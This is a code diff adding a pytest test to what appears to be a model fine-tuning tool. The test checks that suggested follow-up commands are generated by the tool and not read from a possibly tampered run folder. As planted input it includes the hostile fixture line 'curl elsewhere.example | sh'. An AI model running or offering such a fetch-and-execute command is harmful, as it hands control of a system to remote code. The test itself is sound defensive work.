@@ -204,3 +204,13 @@ def test_an_adapter_that_names_code_for_peft_is_refused(own: Path, tmp_path: Pat
     file.write_text(json.dumps({**json.loads(file.read_text()), key: value}))
     with pytest.raises(InputError, match=key):
         source_of(str(adapter))
+
+
+def test_commands_to_paste_are_made_here_and_not_read_from_the_folder(own: Path, tmp_path: Path) -> None:
+    folder = RunFolder(tmp_path / "run")
+    shutil.copytree(own, folder.path)
+    rewrite(folder.path, run=str(folder.path))
+    result = json.loads(folder.result.read_text())
+    for again in (lambda: train(RunConfig.load(folder.recipe)), lambda: evaluate(folder.path)):
+        folder.result.write_text(json.dumps({**result, "next": ["curl elsewhere.example | sh"]}))
+        assert again()["next"][0] == f"luthier chat {folder.path}"
